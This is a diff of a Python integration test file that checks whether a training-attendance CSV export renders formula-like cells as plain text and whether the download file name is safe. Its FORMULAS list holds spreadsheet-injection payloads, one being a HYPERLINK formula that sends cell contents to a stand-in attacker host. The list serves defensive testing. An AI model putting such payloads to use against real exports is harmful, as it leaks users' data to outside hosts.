@@ -6,19 +6,19 @@ import csv
 import io
 
 from tests.integration.conftest import Admin
-from tests.records import Device, uuid7
+from tests.records import uuid7
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]
 
 
 async def test_cells_that_would_be_formulas_are_text(client, admin: Admin) -> None:  # type: ignore[no-untyped-def]
-    outlet = (await admin.post("/api/admin/outlets", {"name": "长寿路社区家政服务网点"}))["id"]
-    staff = Device()
+    outlet = await admin.outlet()
+    staff = await admin.outlet_phone(outlet)
     for course in FORMULAS:
         sid = uuid7()
         records = [staff.record("session", session_id=sid, outlet_id=outlet, course=course, day="2026-11-24"),
                    staff.record("attendance", session_id=sid, trainee_number="T-0042")]
-        r = await staff.push(client, records, versions=False)
+        r = await staff.push(client, records)
         assert [x["status"] for x in r.json()["receipts"]] == ["applied", "applied"], r.text
         r = await client.get(f"/api/admin/training/sessions/{sid}/attendance.csv", headers=await admin.as_regulator())
         assert r.status_code == 200, r.text
@@ -29,10 +29,10 @@ async def test_cells_that_would_be_formulas_are_text(client, admin: Admin) -> No
 
 
 async def test_the_download_name_is_safe(client, admin: Admin) -> None:  # type: ignore[no-untyped-def]
-    outlet = (await admin.post("/api/admin/outlets", {"name": "长寿路社区家政服务网点"}))["id"]
-    staff, sid = Device(), uuid7()
+    outlet = await admin.outlet()
+    staff, sid = await admin.outlet_phone(outlet), uuid7()
     record = staff.record("session", session_id=sid, outlet_id=outlet, course="养老护理", day="2026-11-24")
-    assert (await staff.push(client, [record], versions=False)).status_code == 200
+    assert (await staff.push(client, [record])).status_code == 200
     regulator = await admin.as_regulator()
     r = await client.get(f"/api/admin/training/sessions/{sid}/attendance.csv", headers=regulator)
     assert r.status_code == 200
